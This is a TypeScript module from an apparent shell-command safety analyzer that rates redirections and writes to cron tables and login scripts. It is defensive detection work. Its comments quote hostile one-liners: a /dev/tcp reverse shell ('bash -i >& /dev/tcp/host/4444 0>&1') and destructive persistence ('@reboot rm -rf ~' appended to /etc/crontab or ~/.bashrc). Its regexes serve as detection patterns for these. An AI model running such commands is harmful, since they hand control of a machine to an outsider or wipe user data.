import { resolveIn } from '../cwd'
import type { CommandView } from '../rule'
import { classifyPath, isCriticalSystemFile, isKernelTrigger } from '../paths'
import { commandOutput } from '../static-output'
import { DYN, type ExecContext, type Finding, type SimpleCommand } from '../types'
import { rateCronTable } from './system'

const SHELL_NAME = /(^|\/)(sh|bash|zsh|dash|ksh|mksh|ash)$/
const NET_DEVICE_PATH = /^\/dev\/(tcp|udp)\//
const WRITE_OPS = new Set(['>', '>>', '>|', '&>', '&>>', '<>', '>&'])

/** Findings for output redirections: writing to disks, system files, or overwriting files. */
export function redirectFindings(cmd: SimpleCommand, ctx: ExecContext): Finding[] {
  const out: Finding[] = []
  const shell = SHELL_NAME.test(cmd.words[0]?.value ?? '')
  for (const r of cmd.redirects) {
    if (shell && r.target && NET_DEVICE_PATH.test(r.target.value)) {
      // `bash -i >& /dev/tcp/host/4444 0>&1`, `sh < /dev/tcp/host/80`.
      out.push({
        ruleId: 'net.reverse-shell',
        risk: 'critical',
        message: `Reverse shell: the shell talks to ${r.target.value.replaceAll(DYN, '$VAR')}, so whoever is there runs commands here`,
        span: r.span,
      })
      continue
    }
    if (!WRITE_OPS.has(r.op) || !r.target) continue
    const value = r.target.value
    // `2>&1`, `>&2`: duplicating a descriptor writes nothing new.
    if (/^\d+$|^-$/.test(value) && (r.op === '>&' || r.op === '<&')) continue
    const info = classifyPath(resolveIn(ctx.cwd, value), ctx.container?.hostMounts ?? [])
    const append = r.op.endsWith('>>')
    const span = r.span
    const verb = append ? 'Appends to' : 'Overwrites'
    if (isKernelTrigger(info.path)) {
      out.push({
        ruleId: 'sys.kernel-trigger',
        risk: 'critical',
        message: `Writes to ${info.path}, which can crash or reboot the machine at once`,
        span,
      })
      continue
    }
    switch (info.kind) {
      case 'pseudo-device':
        continue
      case 'net-device':
        out.push({
          ruleId: 'net.dev-tcp',
          risk: 'high',
          message: `Connects a stream to the network through ${info.path} (reverse shell pattern)`,
          span,
        })
        continue
      case 'disk':
        out.push({
          ruleId: 'disk.redirect',
          risk: 'critical',
          message: `Writes straight onto the disk device ${info.path}, destroying its file systems`,
          span,
        })
        continue
      case 'root':
      case 'system-top':
      case 'homes':
      case 'home':
        out.push({
          ruleId: 'fs.redirect.dir',
          risk: 'moderate',
          message: `Redirects output to the directory ${info.path}`,
          span,
        })
        continue
      case 'system':
        if (isCriticalSystemFile(info.path) && !append) {
          out.push({
            ruleId: 'fs.redirect.system-critical',
            risk: 'critical',
            message: `Overwrites ${info.path}, which the system needs to boot or log in`,
            span,
          })
        } else {
          out.push({
            ruleId: /^\/etc\/(cron|sudoers)/.test(info.path)
              ? 'sys.config.privileged'
              : 'fs.redirect.system',
            risk: 'high',
            message: `${verb} the system file ${info.path}`,
            span,
          })
        }
        continue
      case 'home-sensitive':
        out.push({
          ruleId: 'fs.redirect.credentials',
          risk: 'high',
          message: `${verb} ${info.path}, where keys or credentials live`,
          span,
        })
        continue
      default:
        out.push({
          ruleId: append ? 'fs.redirect.append' : 'fs.redirect.overwrite',
          risk: 'moderate',
          message: value.includes(DYN)
            ? `${verb} a file whose name is only known at run time`
            : `${verb} ${info.path}`,
          span,
        })
    }
  }
  return out
}

/** Files whose content runs later: cron tables and login scripts. */
function persistedKind(path: string): 'cron-user' | 'cron-system' | 'script' | null {
  if (/^\/etc\/crontab$|^\/etc\/cron\.d\/[^/]+$/.test(path)) return 'cron-system'
  if (/^\/var\/spool\/cron\/(crontabs\/)?[^/]+$/.test(path)) return 'cron-user'
  if (/^\/etc\/cron\.(hourly|daily|weekly|monthly)\/[^/]+$/.test(path)) return 'script'
  if (
    /^~\/(\.(bash|zsh|k)?rc|\.bash_profile|\.bash_login|\.profile|\.zprofile|\.zshenv|\.zlogin|\.config\/fish\/config\.fish)$/.test(
      path,
    ) ||
    /^\/etc\/(profile|bash\.bashrc|zshrc|zsh\/zshrc|profile\.d\/[^/]+|rc\.local)$/.test(path)
  )
    return 'script'
  return null
}

/**
 * Text written into a cron table or a login script runs later, again and again: rate what it
 * runs (`echo '@reboot rm -rf ~' >> /etc/crontab`, `echo 'rm -rf ~' >> ~/.bashrc`).
 */
export function persistedCode(c: CommandView): void {
  const targets: string[] = []
  for (const r of c.cmd.redirects)
    if (WRITE_OPS.has(r.op) && r.target) targets.push(c.path(r.target).path)
  if (c.name === 'tee') for (const a of c.opts().operands) targets.push(c.path(a).path)
  const kinds = targets.map(persistedKind).filter((k) => k !== null)
  if (!kinds.length) return
  const stdin = c.cmd.stdin
  const known =
    c.name === 'tee'
      ? stdin.kind === 'literal'
        ? stdin.text
        : stdin.kind !== 'none'
          ? stdin.known?.text
          : undefined
      : commandOutput(
          c.cmd,
          stdin.kind === 'literal' ? { text: stdin.text, decoded: false } : undefined,
          c.ctx.dialect,
        )?.text
  if (known === undefined) return
  const at = stdin.kind !== 'none' && c.name === 'tee' ? stdin.span : c.cmd.span
  for (const kind of kinds) {
    if (kind === 'script')
      c.engine.runInnerScript(
        known,
        'bash',
        [{ value: known, raw: '', span: at, quoted: true }],
        c.ctx,
        'login script',
        { cwd: '~' },
      )
    else rateCronTable(c, known, kind === 'cron-system', at)
  }
}
